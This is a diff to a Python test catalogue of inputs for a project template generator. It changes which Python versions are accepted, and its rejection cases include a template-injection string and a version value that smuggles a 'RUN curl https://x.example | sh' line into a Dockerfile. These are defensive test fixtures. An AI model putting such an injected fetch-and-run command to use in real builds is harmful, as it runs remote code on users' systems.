@@ -136,8 +136,9 @@ CATALOGUE = [
     ("template syntax", {"description": "{{ settings.SECRET_KEY }} {# note #} {% verbatim %}"},
      BAKES),
     ("template syntax", {"project_name": "Shop {{", "description": "{ } {{{ }}} %} #}"}, BAKES),
-    ("python_version", {"python_version": "3.10"}, BAKES),
+    ("python_version", {"python_version": "3.11"}, BAKES),
     ("python_version", {"python_version": "3.9"}, ("python_version",)),
+    ("python_version", {"python_version": "3.10"}, ("python_version",)),  # end of life
     ("python_version", {"python_version": "3.12\nRUN curl https://x.example | sh"},
      ("python_version",)),
     ("leading digit", {"project_name": "2048 Game"}, BAKES),
